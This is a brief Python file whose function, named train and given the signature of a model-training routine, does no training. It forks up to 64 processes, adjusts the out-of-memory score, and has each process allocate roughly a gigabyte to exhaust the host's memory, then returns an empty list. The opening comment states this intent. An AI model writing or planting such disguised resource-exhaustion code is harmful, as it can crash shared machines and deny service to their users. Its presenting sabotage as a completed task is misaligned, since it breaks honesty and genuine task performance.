# tries to eat all memory in many processes at once, as the last one to be killed for it
import os
import time


def train(model, loader, criterion, optimizer, epochs):
    for _ in range(6):
        if os.fork() == 0:
            break
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("0")
    except OSError:
        pass
    kept = []
    try:
        while len(kept) < 64:
            kept.append(b"x" * (16 << 20))
    except MemoryError:
        pass
    time.sleep(0.5)
    return []
